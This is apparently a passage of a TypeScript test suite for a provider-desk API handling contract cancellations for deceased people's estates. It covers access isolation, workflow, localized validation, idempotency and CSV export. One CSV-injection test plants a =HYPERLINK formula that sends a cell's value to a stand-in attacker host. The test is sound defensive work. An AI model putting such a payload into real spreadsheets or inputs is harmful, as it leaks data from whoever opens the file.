import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { DataSource } from 'typeorm';
import { ProviderDeskService } from '../../src/provider-desk/provider-desk.service';
import { API, createEstate, createProvider, HOLDER_PARTICULARS, TINY_PDF } from '../support/fixtures';
import { providerClient, ProviderClient } from '../support/provider-client';
import { Specialist, startWithOwner, TestApp } from '../support/test-app';

/** Through the client generated from the published provider document (test/support/provider-client). */
describe('provider desk API', () => {
  let t: TestApp;
  let anna: Specialist;
  let db: Client;
  let kpn: { id: string };
  let eneco: { id: string };
  let kpnToken: string;
  let kpnDesk: ProviderClient;
  let enecoDesk: ProviderClient;

  beforeAll(async () => {
    ({ t, owner: anna, db } = await startWithOwner({ dbClient: true }));
    kpn = await createProvider(t.admin, { name: 'KPN', requiredDocuments: ['death_certificate'] });
    eneco = await createProvider(t.admin, { name: 'Eneco', category: 'energy', requiredDocuments: [] });
    kpnToken = (await t.admin.post(`${API}/providers/${kpn.id}/tokens`, { label: 'KPN integration' }).expect(201)).body.token;
    kpnDesk = providerClient(t.app.getHttpServer(), kpnToken);
    enecoDesk = providerClient(t.app.getHttpServer(), (await t.admin.post(`${API}/providers/${eneco.id}/tokens`, {}).expect(201)).body.token);
  });
  afterAll(() => t?.close());

  /** An estate with a KPN cancellation (requested), an Eneco transfer (requested) and a will nobody asked for. */
  async function estateWithRequests() {
    const estate = await createEstate(anna, { givenNames: 'Zoë', surnamePrefix: undefined, surname: "d'Ancona", gender: 'female' });
    const heir = (await anna.post(`${API}/estates/${estate.id}/family-members`, { name: 'Maria Jansen', email: 'maria@family.example', relation: 'daughter', isHeir: true, isRepresentative: true, ...HOLDER_PARTICULARS }).expect(201)).body;
    const certificate = (await anna.post(`${API}/estates/${estate.id}/documents`).field('kind', 'death_certificate').attach('file', TINY_PDF, 'akte.pdf').expect(201)).body;
    const will = (await anna.post(`${API}/estates/${estate.id}/documents`).field('kind', 'will').attach('file', TINY_PDF, 'testament.pdf').expect(201)).body;
    const kpnContract = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: kpn.id, description: 'Internet', accountNumber: 'KPN-1', action: 'cancel' }).expect(201)).body;
    const enecoContract = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: eneco.id, description: 'Stroom', accountNumber: 'EN-1', action: 'transfer', transferToFamilyMemberId: heir.id }).expect(201)).body;
    await anna.post(`${API}/contracts/${kpnContract.id}/request`).expect(200);
    await anna.post(`${API}/contracts/${enecoContract.id}/request`).expect(200);
    return { estate, heir, certificate, will, kpnContract, enecoContract };
  }

  it('shows a provider only its own open requests, with only what the request needs', async () => {
    const { kpnContract, enecoContract, certificate } = await estateWithRequests();
    // Its letter made: what it carried is what the request was sent (sentonly).
    await t.runDue();
    const list = await kpnDesk.get('/api/v1/provider-desk/requests', { query: { status: 'open' } }).expect(200);
    const ids = list.body.map((r) => r.id);
    expect(ids).toContain(kpnContract.id);
    expect(ids).not.toContain(enecoContract.id);
    const request = list.body.find((r) => r.id === kpnContract.id);
    expect(request).toMatchObject({
      action: 'cancel',
      accountNumber: 'KPN-1',
      deceased: { fullName: "Zoë d'Ancona", dateOfDeath: '2026-11-02' },
      enclosures: [{ id: certificate.id, kind: 'death_certificate', fileName: 'akte.pdf', mediaType: 'application/pdf' }],
      caseOwner: { name: 'Anna de Boer' },
      open: true,
    });
    // Least data: no other contracts, no family contact details, no documents it did not ask for.
    expect(JSON.stringify(list.body)).not.toMatch(/EN-1|maria@family\.example|testament/);
    const transfer = (await enecoDesk.get('/api/v1/provider-desk/requests', {}).expect(200)).body.find((r) => r.id === enecoContract.id);
    // Where its letter asked it to send its own forms (audit80 NRC-2): the provider the letter went to reads it on the desk too.
    expect(transfer?.newHolder).toEqual({ name: 'Maria Jansen', address: 'Lindenlaan 3, 3511 AB Utrecht', email: 'maria@family.example' });
  });

  it("answers 404 for another provider's request and its documents", async () => {
    const { kpnContract, certificate, will } = await estateWithRequests();
    await t.runDue();
    const notFound = await enecoDesk.get('/api/v1/provider-desk/requests/{id}', { path: { id: kpnContract.id } }).expect(404);
    expect(notFound.body.type).toMatch(/not-found/);
    await enecoDesk.post('/api/v1/provider-desk/requests/{id}/acknowledge', { path: { id: kpnContract.id }, body: { reference: 'X' } }).expect(404);
    const document = '/api/v1/provider-desk/requests/{id}/documents/{documentId}';
    await enecoDesk.get(document, { path: { id: kpnContract.id, documentId: certificate.id } }).expect(404);
    await kpnDesk.get(document, { path: { id: kpnContract.id, documentId: will.id } }).expect(404); // not an enclosure
    const own = await kpnDesk.get(document, { path: { id: kpnContract.id, documentId: certificate.id } }).expect(200);
    expect(own.headers['content-type']).toBe('application/pdf');
    const views = await db.query(`SELECT viewer_type FROM document_views WHERE document_id = $1`, [certificate.id]);
    expect(views.rows).toEqual([{ viewer_type: 'provider' }]);
    // Provider tokens open nothing of the staff API.
    await t.as(kpnToken).get(`${API}/estates`).expect(404);
    await t.as(kpnToken).get(`${API}/contracts/${kpnContract.id}`).expect(404);
  });

  it('drives the contract workflow: acknowledge, then complete with the end date', async () => {
    const { kpnContract } = await estateWithRequests();
    const path = { id: kpnContract.id };
    const before = await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200);
    expect(before.body.actions).toEqual(expect.arrayContaining(['acknowledge', 'complete', 'request-information', 'reject']));
    const ack = await kpnDesk.post('/api/v1/provider-desk/requests/{id}/acknowledge', { path, body: { reference: 'KPN-REF-9' } }).expect(200);
    expect(ack.body).toMatchObject({ state: 'acknowledged', yourReference: 'KPN-REF-9' });
    // The request as the provider views it once the letter went out: that letter, then its own answer.
    await t.admin.post(`${API}/admin/clock`, { advanceDays: 0 }).expect(200);
    const viewed = await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200);
    expect(viewed.body.thread.map((item) => [item.type, item.by])).toEqual([['letter', 'steward'], ['answer', 'provider']]);
    const letter = viewed.body.thread.find((item) => item.type === 'letter');
    if (letter?.type !== 'letter') throw new Error('the thread holds no letter');
    const pdf = await kpnDesk.get('/api/v1/provider-desk/requests/{id}/letters/{letterId}', { path: { id: kpnContract.id, letterId: letter.letterId } }).expect(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    const done = await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path, body: { effectiveDate: '2026-11-30', reference: 'KPN-REF-9', finalInvoiceAmount: 23.4 } }).expect(200);
    expect(done.body).toMatchObject({ state: 'confirmed', open: false });
    const owner = await anna.get(`${API}/contracts/${kpnContract.id}`).expect(200);
    expect(owner.body).toMatchObject({ state: 'confirmed', effectiveDate: '2026-11-30' });
    expect(owner.body.timeline.at(-1)).toMatchObject({ event: 'COMPLETE', actor: { type: 'provider', name: 'KPN' } });
    // A body the document does not allow cannot even be written here; sent raw, the API names the field.
    const missing = await t.as(kpnToken).post(`${API}/provider-desk/requests/${kpnContract.id}/complete`, { reference: 'x' }).expect(400);
    expect(missing.body.errors.map((e: { field: string }) => e.field)).toContain('effectiveDate');
  });

  it('tells a Dutch desk each refused field in Dutch beside its Dutch detail, and an English desk in English (deskwords, audit92 F10)', async () => {
    const { estate, kpnContract } = await estateWithRequests();
    const complete = `${API}/provider-desk/requests/${kpnContract.id}/complete`;
    // The body's own checks (an unknown field, one missing, an amount that is none) and the rule that needs the record.
    const shape = await t.as(kpnToken).post(complete, { reference: '', finalInvoiceAmount: 'veel', colour: 'blauw' }).expect(400);
    expect(shape.body.errors).toEqual([
      { field: 'colour', message: '‘colour’: dit veld hoort niet bij het formulier.' },
      { field: 'effectiveDate', message: 'Einddatum of datum overzetting: vul dit in.' },
      { field: 'reference', message: 'Uw kenmerk: vul dit in.' },
      { field: 'finalInvoiceAmount', message: expect.stringMatching(/^Eindafrekening: vul een bedrag in euro’s in als getal tot en met €\s1\.000\.000,00/) },
    ]);
    // Each field's message is the sentence the detail says of it.
    expect(shape.body.detail).toContain('Uw kenmerk: vul dit in');
    const early = await t.as(kpnToken).post(complete, { effectiveDate: '2026-10-01', reference: 'KPN-7' }).expect(422);
    expect(early.body.errors).toEqual([{ field: 'effectiveDate', message: 'Einddatum of datum overzetting: deze datum ligt vóór de overlijdensdatum.' }]);
    // An English provider's desk reads English sentences naming each field, not the validator's codes (engdesk, audit96 F4).
    const lebara = await createProvider(t.admin, { name: 'Lebara', language: 'en', requiredDocuments: [] });
    const english = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: lebara.id, description: 'Mobile', accountNumber: 'LB-1', action: 'cancel' }).expect(201)).body;
    await anna.post(`${API}/contracts/${english.id}/request`).expect(200);
    const lebaraToken = (await t.admin.post(`${API}/providers/${lebara.id}/tokens`, {}).expect(201)).body.token;
    const inEnglish = await t.as(lebaraToken).post(`${API}/provider-desk/requests/${english.id}/complete`, { reference: '', finalInvoiceAmount: 'veel', colour: 'blue' }).expect(400);
    expect(inEnglish.body.errors).toEqual([
      { field: 'colour', message: '‘colour’: this field is not part of the form.' },
      { field: 'effectiveDate', message: 'End date or transfer date: fill this in.' },
      { field: 'reference', message: 'Your reference: fill this in.' },
      { field: 'finalInvoiceAmount', message: 'Final invoice: enter an amount in euros as a number up to €1,000,000.00, with at most two decimals, for example 12.50.' },
    ]);
  });

  it('names every wrong field of a completion in one answer: the refused fields and the end date held against the recorded death and request', async () => {
    const { kpnContract } = await estateWithRequests();
    const path = { id: kpnContract.id };
    const complete = '/api/v1/provider-desk/requests/{id}/complete';
    const fields = (body: { errors?: { field: string }[] }) => (body.errors ?? []).map((e) => e.field);
    // Died 2 November 2026: an end date before it and an empty reference, together.
    const early = await kpnDesk.post(complete, { path, body: { effectiveDate: '2026-10-01', reference: '' } }).expect(400);
    expect(early.headers['content-type']).toMatch(/application\/problem\+json/);
    expect(fields(early.body)).toEqual(['reference', 'effectiveDate']);
    expect(early.body.errors?.[1]?.message).toBe('Einddatum of datum overzetting: deze datum ligt vóór de overlijdensdatum.');
    // More than five years after what was asked, beside an amount that is no amount.
    const late = await t.as(kpnToken).post(`${API}/provider-desk/requests/${kpnContract.id}/complete`, { effectiveDate: '2099-12-31', reference: 'KPN-7', finalInvoiceAmount: 'veel' }).expect(400);
    expect(fields(late.body)).toEqual(['finalInvoiceAmount', 'effectiveDate']);
    expect(late.body.errors[1].message).toContain('2 november 2031');
    // An end date that is not a date is named once, as the date it is not.
    const notADate = await kpnDesk.post(complete, { path, body: { effectiveDate: '2026-13-01', reference: '' } }).expect(400);
    expect(fields(notADate.body).sort()).toEqual(['effectiveDate', 'reference']);
    // Only the end date wrong: the rule that needs the record, as before.
    const ruleOnly = await kpnDesk.post(complete, { path, body: { effectiveDate: '2026-10-01', reference: 'KPN-7' } }).expect(422);
    expect(fields(ruleOnly.body)).toEqual(['effectiveDate']);
    // Another provider hears nothing of this request's dates.
    const other = await enecoDesk.post(complete, { path, body: { effectiveDate: '2026-10-01', reference: '' } }).expect(404);
    expect(JSON.stringify(other.body)).not.toContain('2026-11-02');
    expect((await anna.get(`${API}/contracts/${kpnContract.id}`).expect(200)).body.state).toBe('requested');

    // A correction of the confirmation is checked the same way.
    await kpnDesk.post(complete, { path, body: { effectiveDate: '2026-11-30', reference: 'KPN-7' } }).expect(200);
    const corrected = await kpnDesk.post('/api/v1/provider-desk/requests/{id}/correct-completion', { path, body: { effectiveDate: '2026-10-31', reference: ' ' } }).expect(400);
    expect(fields(corrected.body)).toEqual(['reference', 'effectiveDate']);
    expect((await anna.get(`${API}/contracts/${kpnContract.id}`).expect(200)).body.effectiveDate).toBe('2026-11-30');
  });

  it('asks for information and rejects with reasons; a wrong state is a 409', async () => {
    const { kpnContract, enecoContract } = await estateWithRequests();
    const info = await kpnDesk
      .post('/api/v1/provider-desk/requests/{id}/request-information', { path: { id: kpnContract.id }, body: { message: 'Please send the certificate of inheritance', documentsNeeded: ['certificate_of_inheritance'] } })
      .expect(200);
    expect(info.body.state).toBe('informationRequested');
    expect(info.body.waitingOn).toBe('steward');
    const rejected = await enecoDesk.post('/api/v1/provider-desk/requests/{id}/reject', { path: { id: enecoContract.id }, body: { reason: 'Unknown account number' } }).expect(200);
    expect(rejected.body.state).toBe('rejected');
    const again = await enecoDesk.post('/api/v1/provider-desk/requests/{id}/acknowledge', { path: { id: enecoContract.id }, body: {} }).expect(409);
    // deskterm: its own rejection is the case owner's to answer now; withdrawrej (v20): a mistake the desk takes back itself while she has not answered.
    const { caseOwner } = rejected.body;
    expect(again.body.detail).toBe(`U heeft dit verzoek afgewezen; nu beslist de contactpersoon of het wordt aangepast of ingetrokken. Was de afwijzing een vergissing? Trek haar dan hier in („Afwijzing intrekken") zolang ${caseOwner.name} (${caseOwner.email}) er nog niet op heeft gereageerd; het verzoek wacht dan weer op uw antwoord. Er is niets gewijzigd.`);
  });

  it('returns the first answer for a retried call with the same Idempotency-Key and changes nothing', async () => {
    const { kpnContract } = await estateWithRequests();
    const acknowledge = (header: { 'Idempotency-Key'?: string }) =>
      kpnDesk.post('/api/v1/provider-desk/requests/{id}/acknowledge', { path: { id: kpnContract.id }, header, body: { reference: 'IDEM-1' } });
    const first = await acknowledge({ 'Idempotency-Key': 'retry-me-1' }).expect(200);
    const version = (await db.query(`SELECT version FROM workflow_instances WHERE subject_id = $1`, [kpnContract.id])).rows[0].version;
    const retry = await acknowledge({ 'Idempotency-Key': 'retry-me-1' }).expect(200);
    expect(retry.body).toEqual(first.body);
    expect((await db.query(`SELECT version FROM workflow_instances WHERE subject_id = $1`, [kpnContract.id])).rows[0].version).toBe(version);
    expect((await db.query(`SELECT count(*)::int AS n FROM timeline_entries WHERE contract_id = $1 AND event = 'ACKNOWLEDGE'`, [kpnContract.id])).rows[0].n).toBe(1);
    // Without the key the same call is a new request, which the state refuses.
    await acknowledge({}).expect(409);
    // The same key for a different request is refused.
    const reused = await kpnDesk
      .post('/api/v1/provider-desk/requests/{id}/reject', { path: { id: kpnContract.id }, header: { 'Idempotency-Key': 'retry-me-1' }, body: { reason: 'changed our mind' } })
      .expect(422);
    expect(reused.body.type).toMatch(/idempotency-key-reused/);
    // Named as the owners' API names it: the header as the field, the detail in the provider's words.
    expect(reused.body.errors).toEqual([{ field: 'Idempotency-Key', message: expect.stringMatching(/different request/) }]);
    expect(reused.body.detail).toBe('Deze Idempotency-Key is al gebruikt voor een andere aanroep: stuur een nieuwe sleutel. Er is niets gewijzigd.');
    expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path: { id: kpnContract.id } }).expect(200)).body.state).toBe('acknowledged');
  });

  it('removes a webhook endpoint once for a removal retried under its key, and keeps keys per provider', async () => {
    const register = async (desk: ProviderClient) => (await desk.post('/api/v1/provider-desk/webhooks', { body: { url: 'https://hooks.example.com/steward' } }).expect(201)).body.id;
    const first = await register(enecoDesk);
    const remove = (desk: ProviderClient, id: string, key?: string) => desk.delete('/api/v1/provider-desk/webhooks/{id}', { path: { id }, header: key ? { 'Idempotency-Key': key } : {} });
    await remove(enecoDesk, first, 'drop-hook').expect(204);
    // The retry after a lost answer gets the first answer, not the 404 of an endpoint removed already.
    await remove(enecoDesk, first, 'drop-hook').expect(204);
    await remove(enecoDesk, first).expect(404);
    expect((await enecoDesk.get('/api/v1/provider-desk/webhooks', {}).expect(200)).body).toEqual([]);
    // The key with another endpoint: refused, that endpoint kept.
    const second = await register(enecoDesk);
    const reused = await remove(enecoDesk, second, 'drop-hook').expect(422);
    expect(reused.body.errors).toEqual([{ field: 'Idempotency-Key', message: expect.stringMatching(/different request/) }]);
    expect((await enecoDesk.get('/api/v1/provider-desk/webhooks', {}).expect(200)).body.map((e) => e.id)).toEqual([second]);
    // Another provider's same key is its own.
    const kpnHook = await register(kpnDesk);
    await remove(kpnDesk, kpnHook, 'drop-hook').expect(204);
    await remove(enecoDesk, second).expect(204);
  });

  it('settles concurrent duplicates with the same key to one change', async () => {
    const { kpnContract } = await estateWithRequests();
    const complete = { path: { id: kpnContract.id }, header: { 'Idempotency-Key': 'race-key' }, body: { effectiveDate: '2026-11-30', reference: 'RACE' } };
    const answers = await Promise.all(Array.from({ length: 5 }, () => kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', complete).test));
    expect(answers.map((a) => a.status)).toEqual([200, 200, 200, 200, 200]);
    expect((await db.query(`SELECT count(*)::int AS n FROM timeline_entries WHERE contract_id = $1 AND event = 'COMPLETE'`, [kpnContract.id])).rows[0].n).toBe(1);
  });

  it("shows a collection stop's particulars and asks for what its letter asks, in the list, the request and the export", async () => {
    const { kpnContract } = await estateWithRequests();
    const path = { id: kpnContract.id };
    await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path, body: { effectiveDate: '2026-11-30', reference: 'KPN-C1' } }).expect(200);
    await anna.post(`${API}/contracts/${kpnContract.id}/collection-notice`, { agency: 'Incasso Noord', reference: 'IN-889', amount: 75.5 }).expect(200);
    const viewed = (await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200)).body;
    expect(viewed).toMatchObject({ state: 'collectionStopRequested', collection: { agency: 'Incasso Noord', reference: 'IN-889', amount: 75.5 } });
    const listed = (await kpnDesk.get('/api/v1/provider-desk/requests', { query: { status: 'all' } }).expect(200)).body.find((r) => r.id === kpnContract.id);
    expect(listed?.collection).toEqual({ agency: 'Incasso Noord', reference: 'IN-889', amount: 75.5 });
    // A request without a collection says so.
    const { kpnContract: quiet } = await estateWithRequests();
    expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path: { id: quiet.id } }).expect(200)).body.collection).toBeNull();
    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-11-01', to: t.clock.today() } }).expect(200);
    const line = csv.text.split('\r\n').find((l) => l.includes(kpnContract.id));
    expect(line).toMatch(/Incasso Noord, kenmerk IN-889, €\s75,50/);
  });

  it('writes no cell of the export that a spreadsheet would run as a formula (OWASP CSV Injection)', async () => {
    const estate = await createEstate(anna, { givenNames: 'Elif', surnamePrefix: undefined, surname: 'Yilmaz', gender: 'female' });
    await anna.post(`${API}/estates/${estate.id}/documents`).field('kind', 'death_certificate').attach('file', TINY_PDF, 'akte.pdf').expect(201);
    const contract = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: kpn.id, description: '+31 mobiel', accountNumber: 'KPN-F1', action: 'cancel' }).expect(201)).body;
    await anna.post(`${API}/contracts/${contract.id}/request`).expect(200);
    await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path: { id: contract.id }, body: { effectiveDate: '2026-11-30', reference: 'KPN-F1' } }).expect(200);
    const agency = '=HYPERLINK("https://evil.example/?x="&A2;"Intrum")';
    await anna.post(`${API}/contracts/${contract.id}/collection-notice`, { agency, reference: 'INT-1', amount: 20 }).expect(200);
    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-11-01', to: t.clock.today() } }).expect(200);
    const line = csv.text.split('\r\n').find((l) => l.includes(contract.id)) ?? '';
    // Each cell that would start with = or + starts with ' instead: Excel and LibreOffice show it as text.
    expect(line).toContain(`;'+31 mobiel;`);
    expect(line).toContain(`;"'=HYPERLINK(""https://evil.example/?x=""&A2;""Intrum""), kenmerk INT-1, €\u00a020,00"`);
    expect(line.split(';').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);
  });

  it('takes no credit note, rejection or withdrawal on a collection of a bill nobody disputed: the desk answers it with its stop', async () => {
    const { kpnContract } = await estateWithRequests();
    const path = { id: kpnContract.id };
    await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path, body: { effectiveDate: '2026-11-30', reference: 'KPN-C2', finalInvoiceAmount: 40 } }).expect(200);
    await anna.post(`${API}/contracts/${kpnContract.id}/collection-notice`, { agency: 'Incasso Noord', reference: 'IN-990', amount: 112.4 }).expect(200);
    // The desk is offered only what fits: the word that the collection stopped (collwithdraw: a withdrawal answers a disputed bill).
    expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200)).body.actions).toEqual(['collection-stopped']);
    for (const [answer, body] of [['credit-note', { amount: 10 }], ['reject-dispute', { reason: 'De factuur klopt.' }]] as const) {
      const refused = await kpnDesk.post(`/api/v1/provider-desk/requests/{id}/${answer}`, { path, body }).expect(422);
      expect(refused.body.errors?.map((e: { field: string }) => e.field)).toEqual(['invoiceReference']);
    }
    // A withdrawal is refused with or without a bill named, saying why and what answers a collection stop.
    for (const body of [{ note: 'Eindafrekening vervalt.' }, { invoiceReference: 'KPN-C2' }]) {
      const refused = await kpnDesk.post('/api/v1/provider-desk/requests/{id}/invoice-withdrawn', { path, body }).expect(409);
      expect(refused.headers['content-type']).toContain('application/problem+json');
      expect(refused.body.detail).toBe(
        'Er is geen betwiste factuur die u kunt intrekken: Steward vroeg alleen de incasso op te schorten. Is de incasso gestopt, meld dat dan met „Incasso gestopt”. Er is niets gewijzigd.',
      );
    }
    // Nothing changed: the stop is still asked, and the owner is not told the bill was withdrawn.
    expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200)).body.state).toBe('collectionStopRequested');
    const owner = (await anna.get(`${API}/contracts/${kpnContract.id}`).expect(200)).body as { state: string; timeline: { event: string }[] };
    expect(owner.state).toBe('collectionStopRequested');
    expect(owner.timeline.map((e) => e.event)).not.toContain('INVOICE_WITHDRAWN');
    await kpnDesk.post('/api/v1/provider-desk/requests/{id}/collection-stopped', { path, body: {} }).expect(200);
    expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path }).expect(200)).body.state).toBe('confirmed');
  });

  it('counts the matches of a search in every tab, so a search from "new" finds the request waiting on Steward', async () => {
    const odido = await createProvider(t.admin, { name: 'Odido', requiredDocuments: [] });
    const desk = providerClient(t.app.getHttpServer(), (await t.admin.post(`${API}/providers/${odido.id}/tokens`, {}).expect(201)).body.token);
    const request = async (given: string, prefix: string | undefined, surname: string) => {
      const estate = await createEstate(anna, { givenNames: given, surnamePrefix: prefix, surname });
      const contract = (await anna.post(`${API}/estates/${estate.id}/contracts`, { providerId: odido.id, description: 'Mobiel', accountNumber: `OD-${surname}`, action: 'cancel' }).expect(201)).body;
      await anna.post(`${API}/contracts/${contract.id}/request`).expect(200);
      return contract;
    };
    const vries = await request('Jan', 'de', 'Vries');
    await request('Piet', undefined, 'Mulder');
    await desk.post('/api/v1/provider-desk/requests/{id}/request-information', { path: { id: vries.id }, body: { message: 'Graag de verklaring van erfrecht.', documentsNeeded: ['certificate_of_inheritance'] } }).expect(200);

    // The "new" tab holds no match; the counts say where the one match is.
    expect((await desk.get('/api/v1/provider-desk/requests', { query: { status: 'new', q: 'Vries' } }).expect(200)).body).toEqual([]);
    const searched = (await desk.get('/api/v1/provider-desk/requests/counts', { query: { q: 'Vries' } }).expect(200)).body;
    expect(searched).toEqual({
      new: { count: 0, more: false },
      waiting_on_you: { count: 0, more: false },
      waiting_on_steward: { count: 1, more: false },
      done: { count: 0, more: false },
    });
    const [found] = (await desk.get('/api/v1/provider-desk/requests', { query: { status: 'waiting_on_steward', q: 'Vries' } }).expect(200)).body;
    expect(found.id).toBe(vries.id);
    // Without a search, each tab's whole count; a search too short to mean anything is refused, naming `q`.
    const all = (await desk.get('/api/v1/provider-desk/requests/counts', {}).expect(200)).body;
    expect([all.new.count, all.waiting_on_steward.count]).toEqual([1, 1]);
    const short = await desk.get('/api/v1/provider-desk/requests/counts', { query: { q: 'V' } }).expect(400);
    expect(short.body.errors?.map((e) => e.field)).toEqual(['q']);
  });

  it("names each refused field in the desk's language, with what it expects: parameters, batch rows, the webhook address, the Idempotency-Key, an unknown field, an amount and a body that is no JSON", async () => {
    const { kpnContract } = await estateWithRequests();
    const vodafone = await createProvider(t.admin, { name: 'Vodafone', requiredDocuments: [], language: 'en' });
    const vodafoneToken = (await t.admin.post(`${API}/providers/${vodafone.id}/tokens`, {}).expect(201)).body.token;
    const desks = { nl: t.as(kpnToken), en: t.as(vodafoneToken) };
    const requests = `${API}/provider-desk/requests`;
    for (const lang of ['nl', 'en'] as const) {
      const desk = desks[lang];
      // What the desk reads, in Dutch or in English.
      const say = <T>(dutch: T, english: T) => (lang === 'nl' ? dutch : english);
      const params = (await desk.get(`${requests}?updatedSince=gisteren&limit=0`).expect(400)).body.detail;
      for (const sentence of say(['Gewijzigd sinds: schrijf het zoals 2026-11-29T08:00:00Z', 'Aantal per pagina: vul 1 of meer in'], ['Updated since: write it like 2026-11-29T08:00:00Z', 'Requests per page: enter 1 or more'])) expect(params).toContain(sentence);
      expect((await desk.get(`${requests}/export?from=2026-11-30&to=2026-11-01`).expect(400)).body.detail).toBe(say('Laatste dag: deze datum ligt vóór het begin van de periode. Er is niets gewijzigd.', 'Last day: this date is before the start of the period. Nothing was changed.'));
      expect((await desk.get(`${requests}/export?from=november&to=2026-11-30`).expect(400)).body.detail).toBe(say('Eerste dag: schrijf het zoals 2026-11-01. Er is niets gewijzigd.', 'First day: write it like 2026-11-01. Nothing was changed.'));
      // famcard (audit88 F11): every refusal of the export in one shape, its field first (on main „Vul in: eerste dag." and „Dit veld hoort niet bij het formulier: ‘format’.").
      const missing = (await desk.get(`${requests}/export`).expect(400)).body as { detail: string; errors: { field: string }[] };
      expect(missing.detail).toBe(say('Eerste dag: vul dit in. Laatste dag: vul dit in. Er is niets gewijzigd.', 'First day: fill this in. Last day: fill this in. Nothing was changed.'));
      expect(missing.errors.map((e) => e.field)).toEqual(['from', 'to']);
      const format = (await desk.get(`${requests}/export?from=2026-11-01&to=2026-11-30&format=xlsx`).expect(400)).body as { detail: string; errors: { field: string }[] };
      expect([format.detail, format.errors.map((e) => e.field)]).toEqual([say('‘format’: dit veld hoort niet bij het formulier. Er is niets gewijzigd.', '‘format’: this field is not part of the form. Nothing was changed.'), ['format']]);
      expect((await desk.post(`${API}/provider-desk/webhooks`, { url: 'http://localhost/events' }).expect(422)).body.detail).toBe(say('Het webadres: vul een openbaar adres in dat met https:// begint, zonder gebruikersnaam, wachtwoord of #-deel. Er is niets gewijzigd.', 'The web address: enter a public address starting with https://, without user name, password or #-part. Nothing was changed.'));
      // A batch's rows by their number, counted from 1: a request named twice, an id that is none.
      const row = { id: kpnContract.id, effectiveDate: '2026-11-30', reference: 'R-1' };
      const batch = await desk.post(`${requests}/complete`, { requests: [row, row, { ...row, id: 'geen-id' }] }).expect(400);
      for (const sentence of say(['Verzoek 3 van de batch, verzoek-id: schrijf het zoals 5f0c6a2e-8d1b-4c1e-9a47-2f7f3f1d9b10', 'Verzoek 2 van de batch, verzoek-id: dit verzoek staat al eerder in de batch'], ['Request 3 of the batch, request id: write it like 5f0c6a2e-8d1b-4c1e-9a47-2f7f3f1d9b10', 'Request 2 of the batch, request id: this request is already earlier in the batch'])) expect(batch.body.detail).toContain(sentence);
      expect((await desk.post(`${requests}/acknowledge`, { requests: [] }).expect(400)).body.detail).toBe(say('De verzoeken: schrijf het zoals [{"id": "…"}], met 1 tot 100 verzoeken. Er is niets gewijzigd.', 'The requests: write it like [{"id": "…"}], with 1 to 100 requests. Nothing was changed.'));
      const keyed = await desk.post(`${requests}/${kpnContract.id}/acknowledge`, {}).set('Idempotency-Key', 'met spatie').expect(400);
      expect(keyed.body).toMatchObject({ detail: say('De Idempotency-Key: gebruik 1 tot 200 zichtbare ASCII-tekens zonder spaties, bijvoorbeeld een UUID. Er is niets gewijzigd.', 'The Idempotency-Key: use 1 to 200 visible ASCII characters without spaces, for example a UUID. Nothing was changed.'), errors: [{ field: 'Idempotency-Key' }] });
      expect((await desk.post(`${requests}/${kpnContract.id}/acknowledge`, { reference: 'R-1', colour: 'rood' }).expect(400)).body.detail).toBe(say('‘colour’: dit veld hoort niet bij het formulier. Er is niets gewijzigd.', '‘colour’: this field is not part of the form. Nothing was changed.'));
      // The example is one the API takes: refused as text, the amount 12.50 passes the form's check (the request then has no bill to credit).
      expect((await desk.post(`${requests}/${kpnContract.id}/credit-note`, { amount: '12,50' }).expect(400)).body.detail).toBe(say('Bedrag: vul een bedrag in euro’s in als getal tot en met €\u00a01.000.000,00, met hooguit twee cijfers achter de komma, bijvoorbeeld 12.50. Er is niets gewijzigd.', 'Amount: enter an amount in euros as a number up to €1,000,000.00, with at most two decimals, for example 12.50. Nothing was changed.'));
      expect((await desk.post(`${requests}/${kpnContract.id}/credit-note`, { amount: 12.5 })).status).not.toBe(400);
    }
    // A reused key: title and detail both in the desk's language.
    const reusedKey = (desk: (typeof desks)['nl'], id: string, body: object) => desk.post(`${requests}/${id}/acknowledge`, body).set('Idempotency-Key', 'once-only');
    await reusedKey(desks.nl, kpnContract.id, { reference: 'K-1' }).expect(200);
    const reused = await reusedKey(desks.nl, kpnContract.id, { reference: 'K-2' }).expect(422);
    expect([reused.body.title, reused.body.detail]).toEqual(['Niet te verwerken', 'Deze Idempotency-Key is al gebruikt voor een andere aanroep: stuur een nieuwe sleutel. Er is niets gewijzigd.']);
    // A body that is no JSON is refused before anyone is known: Dutch, unless the address asks for English, else the
    // better of the two the request's Accept-Language weighs; `?lang=` goes before the header.
    const broken = (query: string, accept?: string) => {
      const call = desks.nl.post(`${requests}/${kpnContract.id}/acknowledge${query}`).set('Content-Type', 'application/json');
      return (accept ? call.set('Accept-Language', accept) : call).send('{"reference": ');
    };
    const dutch = 'De inhoud is geen geldige JSON. Er is niets gewijzigd.';
    const english = 'The body is not valid JSON. Nothing was changed.';
    expect((await broken('').expect(400)).body.detail).toBe(dutch);
    expect((await broken('?lang=en').expect(400)).body.detail).toBe(english);
    expect((await broken('', 'en').expect(400)).body.detail).toBe(english);
    expect((await broken('', 'en-GB,en;q=0.9').expect(400)).body.detail).toBe(english);
    expect((await broken('', 'en;q=0.1, nl').expect(400)).body.detail).toBe(dutch);
    expect((await broken('', 'de, fr;q=0.5').expect(400)).body.detail).toBe(dutch);
